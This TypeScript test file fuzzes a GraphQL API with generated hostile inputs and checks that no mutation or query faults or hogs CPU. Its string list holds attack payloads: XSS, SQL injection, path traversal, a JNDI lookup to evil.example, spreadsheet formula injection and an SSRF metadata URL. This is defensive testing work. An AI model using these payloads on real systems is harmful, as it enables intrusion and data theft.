import { readFileSync } from "node:fs";
import fc, { type Arbitrary } from "fast-check";
import {
  buildSchema,
  getNamedType,
  type GraphQLArgument,
  type GraphQLInputField,
  type GraphQLInputType,
  isAbstractType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  Kind,
} from "graphql";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fromRoot } from "../../../scripts/lib/paths.ts";
import { sendGraphql, type GraphQLResult } from "../../support/graphql.ts";
import { leastLongestTurn } from "../../support/longestTurn.ts";
import { casesOf } from "../permissions/everyMutation.ts";
import { makeEverything, type Everything } from "../permissions/everything.ts";
import { globalId } from "../support/ids.ts";
import { startTestEnv, type TestEnv } from "../support/testEnv.ts";

type Values = Readonly<Record<string, unknown>>;
type Input = GraphQLInputField | GraphQLArgument;

const schema = buildSchema(readFileSync(fromRoot("schema.graphql"), "utf8"));
/** Tries of each mutation and query, with other values each. */
const TRIES = 4;
/** The same values in every run, so that a failure can be repeated; HOSTILE_SEED tries others. */
const SEED = Number(process.env["HOSTILE_SEED"] ?? 1);
/** Milliseconds of CPU that one operation may take, of gateway and upstream together. */
const CPU_LIMIT = 1000;
/** Codes that mean a fault of the product, whatever was sent. */
const faults: ReadonlySet<string> = new Set(["INTERNAL", "INTERNAL_SERVER_ERROR", "UPSTREAM_CONTRACT", "UPSTREAM_UNAVAILABLE"]);

const texts: readonly string[] = [
  "",
  " \u00a0\u200b\u2060\ufeff",
  "a\0b",
  "\ud800",
  "\u202egnp.exe",
  "e\u0301".repeat(2000),
  "👩‍👩‍👧‍👦".repeat(500),
  "x".repeat(50_000),
  "<div>".repeat(8000),
  "<p>".repeat(3000) + "&amp;".repeat(3000),
  `<a href="${"javascript:".repeat(1000)}">x</a>`,
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "'; drop table users; --",
  "%' or '1'='1",
  "%%%___\\\\\\",
  "((((((((((a+)+)+)+)+)+)+)+)+)+",
  `${"a".repeat(5000)}@${"b.".repeat(2000)}c`,
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "${jndi:ldap://evil.example}{{7*7}}",
  "=cmd|' /C calc'!A0",
  "http://[::ffff:169.254.169.254]/",
  "https://user:pass@evil.example:99999/%zz",
  "-1e309",
  "NaN",
  "__proto__",
  "toString",
  "2016-12-31T23:59:60Z",
  "+275760-09-13T00:00:00.001Z",
];
const text = fc.oneof(fc.constantFrom(...texts), fc.string({ unit: "binary", maxLength: 40 }));
const scalars: Readonly<Record<string, Arbitrary<unknown>>> = {
  String: text,
  HTML: text,
  URL: text,
  DateTime: fc.oneof(
    text,
    fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
  ),
  Int: fc.oneof(fc.constantFrom(0, -1, 1, 2 ** 31 - 1, -(2 ** 31)), fc.integer()),
  Boolean: fc.boolean(),
  JSON: fc.jsonValue(),
};
const wrongIds = fc.constantFrom(
  "",
  "0",
  "!",
  "a".repeat(5000),
  globalId("Job", -1),
  globalId("Job", "9".repeat(30)),
  globalId("__proto__", 1),
);

/** Types that the directive @id names. */
function typesOf(input: Input): string[] {
  const directive = input.astNode?.directives?.find(({ name }) => name.value === "id");
  const value = directive?.arguments?.[0]?.value;
  if (value?.kind === Kind.STRING) return [value.value];
  return value?.kind === Kind.LIST ? value.values.flatMap((one) => (one.kind === Kind.STRING ? [one.value] : [])) : [];
}

/** Values of the type that the schema accepts or nearly accepts, mostly such that no person would send. */
function hostile(
  type: GraphQLInputType,
  input: Input,
  idOf: (type: string) => string | null,
  inList = false,
): Arbitrary<unknown> {
  if (isNonNullType(type)) return hostile(type.ofType, input, idOf, inList);
  if (isListType(type)) {
    const item = hostile(type.ofType, input, idOf, true);
    // Lists in lists are short, so that not every request is refused for its size alone.
    const length = inList ? 3 : 300;
    return fc.oneof(
      fc.array(item, { maxLength: 3 }),
      item.map((one) => Array.from({ length }, () => one)),
    );
  }
  if (isEnumType(type)) return fc.constantFrom(...type.getValues().map(({ name }) => name));
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields()).map(
      (field) => [field.name, hostile(field.type, field, idOf, inList)] as const,
    );
    return fc.record(Object.fromEntries(fields), { requiredKeys: [] });
  }
  if (type.name !== "ID") return scalars[type.name] ?? text;
  const validIds = typesOf(input).flatMap((name) => idOf(name) ?? []);
  return validIds.length === 0 ? wrongIds : fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...validIds) }, wrongIds);
}

describe("hostile inputs", () => {
  let env: TestEnv;
  let everything: Everything;
  const idOf = (type: string): string | null => {
    const object = schema.getType(type);
    const names = isAbstractType(object) ? schema.getPossibleTypes(object).map(({ name }) => name) : [type];
    for (const name of names) {
      try {
        return everything.ids(name);
      } catch {
        continue;
      }
    }
    return null;
  };

  beforeAll(async () => {
    env = await startTestEnv({ costLimit: 1_000_000 });
    everything = await makeEverything(env);
  });
  afterAll(() => env?.stop());

  /** What is wrong with the response; null when nothing is. */
  async function failureOf(name: string, document: string, variables: Values): Promise<string | null> {
    // Made before the measurement, because the sender's own work is no fault of the product.
    const body = Buffer.from(JSON.stringify({ query: document, variables }));
    const headers = {
      cookie: `sid=${everything.viewer.sid}`,
      "content-type": "application/json",
      accept: "application/graphql-response+json",
    };
    const before = process.cpuUsage();
    const response = await fetch(`${env.url}/graphql`, { method: "POST", headers, body });
    const result = (await response.json()) as GraphQLResult<unknown>;
    const { user, system } = process.cpuUsage(before);
    const milliseconds = (user + system) / 1000;
    const failed = env.upstream.calls.find(({ status }) => status >= 500);
    env.upstream.reset();
    const fault = result.errors?.find(({ extensions }) => faults.has(extensions?.code ?? "INTERNAL"));
    const description = `${name} ${JSON.stringify(variables).slice(0, 300)}`;
    if (response.status >= 500) return `${description}: status ${response.status}`;
    if (failed !== undefined) return `${description}: ${failed.method} ${failed.path} responded with ${failed.status}`;
    if (fault !== undefined) return `${description}: ${JSON.stringify(fault).slice(0, 300)}`;
    return milliseconds > CPU_LIMIT ? `${description}: ${milliseconds.toFixed(0)} ms of CPU` : null;
  }

  const sample = (arbitrary: Arbitrary<Values>): Values[] => fc.sample(arbitrary, { numRuns: TRIES, seed: SEED });

  it("of no mutation cause a fault or take more than a second of CPU @ERR-04", async () => {
    const mutations = schema.getMutationType()?.getFields() ?? {};
    const failures: (string | null)[] = [];
    // They end the session with which the others are sent.
    const last = ["changePassword", "changeEmail"];
    const cases = casesOf(everything.ids).toSorted(
      (a, b) => Number(last.includes(a.mutation)) - Number(last.includes(b.mutation)),
    );
    for (const { mutation, input: valid } of cases) {
      const type = mutations[mutation]?.args[0]?.type;
      const object = type === undefined ? undefined : getNamedType(type);
      if (!isInputObjectType(object)) throw new Error(`${mutation} has no input.`);
      const document = `mutation hostile_${mutation} ($input: ${object.name}!) { ${mutation}(input: $input) { errors { code message } } }`;
      const fields = Object.values(object.getFields());
      // One or two fields are hostile and the others valid, so that the values pass the checks of their neighbours.
      const inputs = fc
        .subarray(fields, { minLength: 1, maxLength: Math.min(2, fields.length) })
        .chain((chosen) => fc.record(Object.fromEntries(chosen.map((field) => [field.name, hostile(field.type, field, idOf)]))))
        .map((values) => ({ input: { ...valid, ...values } }));
      for (const variables of sample(inputs)) failures.push(await failureOf(mutation, document, variables));
    }
    expect(failures.filter((failure) => failure !== null)).toEqual([]);
  });

  it("with hundreds of wrong ids produce ten errors, as many as their cost counts @ERR-04", async () => {
    const input = { contactListId: everything.ids("ContactList"), contactIds: Array.from({ length: 300 }, () => "wrong") };
    const document = "mutation ($input: AddToContactListInput!) { addToContactList(input: $input) { errors { code field } } }";
    const { addToContactList } = await env.data<{ addToContactList: { errors: unknown[] } }>(
      document,
      { input },
      everything.viewer,
    );
    expect(addToContactList.errors).toHaveLength(10);
    expect(addToContactList.errors[0]).toEqual({ code: "INVALID_ID", field: ["input", "contactIds", "0"] });
  });

  it("with more values than any operation needs are refused before each of them is read @ERR-04", async () => {
    const document = "mutation ($input: AddToContactListInput!) { addToContactList(input: $input) { errors { code } } }";
    const input = { contactListId: everything.ids("ContactList"), contactIds: Array.from({ length: 200_000 }, () => "!") };
    const headers = { cookie: `sid=${everything.viewer.sid}` };
    const { result, response } = await sendGraphql(env.url, { document, variables: { input }, headers });
    expect(response.status).toBe(422);
    expect(result.errors?.[0]?.extensions).toMatchObject({ code: "BAD_USER_INPUT", limit: { name: "values", allowed: 10_000 } });
    const send = () => sendGraphql(env.url, { document, variables: { input }, headers });
    expect(await leastLongestTurn(send, 50)).toBeLessThan(50);
  });

  it("that are long are quoted in part only @ERR-04", async () => {
    const document = "mutation ($input: CreateTaskInput!) { createTask(input: $input) { errors { code } } }";
    const unknown = Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`unknown${index}`, 1]));
    const variables = { input: { ...unknown, title: "x".repeat(500_000) } };
    const { result } = await sendGraphql(env.url, { document, variables });
    expect(result.errors?.length).toBeGreaterThan(1);
    expect(JSON.stringify(result).length).toBeLessThan(20_000);
  });

  it("with half of an emoji find nothing @ERR-04", async () => {
    const document = "query ($query: String) { countries(query: $query) { name } }";
    expect(await env.data(document, { query: "\ud800" })).toEqual({ countries: [] });
  });

  it("of no query cause a fault or take more than a second of CPU @ERR-04", async () => {
    const failures: (string | null)[] = [];
    for (const { name, args, type } of Object.values(schema.getQueryType()?.getFields() ?? {})) {
      if (args.length === 0) continue;
      const declared = args.map((argument) => `$${argument.name}: ${String(argument.type)}`).join(", ");
      const passed = args.map((argument) => `${argument.name}: $${argument.name}`).join(", ");
      const isLeaf = !("getFields" in getNamedType(type)) && !("getTypes" in getNamedType(type));
      const document = `query hostile_${name} (${declared}) { ${name}(${passed}) ${isLeaf ? "" : "{ __typename }"} }`;
      const required = args.filter((argument) => isNonNullType(argument.type)).map((argument) => argument.name);
      const values = Object.fromEntries(args.map((argument) => [argument.name, hostile(argument.type, argument, idOf)]));
      for (const variables of sample(fc.record(values, { requiredKeys: required })))
        failures.push(await failureOf(name, document, variables));
    }
    expect(failures.filter((failure) => failure !== null)).toEqual([]);
  });
});
